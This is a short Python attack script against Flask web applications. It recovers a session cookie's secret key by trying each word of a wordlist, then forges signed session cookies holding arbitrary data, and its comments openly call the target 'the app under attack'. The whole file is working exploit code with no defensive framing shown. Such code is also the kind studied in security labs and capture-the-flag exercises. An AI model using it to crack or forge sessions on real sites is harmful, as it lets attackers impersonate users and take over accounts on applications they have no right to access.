from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import BadSignature


def serializer(secret_key):
    # Flask's own serializer, configured exactly as the app under attack configures it.
    app = Flask("attacker")
    app.secret_key = secret_key
    return SecureCookieSessionInterface().get_signing_serializer(app)


def crack(cookie, wordlist):
    """The word of wordlist that signed this session cookie, or None."""
    for word in wordlist:
        try:
            serializer(word).loads(cookie)
        except BadSignature:
            continue
        return word
    return None


def forge(secret_key, data):
    """A session cookie holding data, signed with secret_key as Flask signs it."""
    return serializer(secret_key).dumps(data)
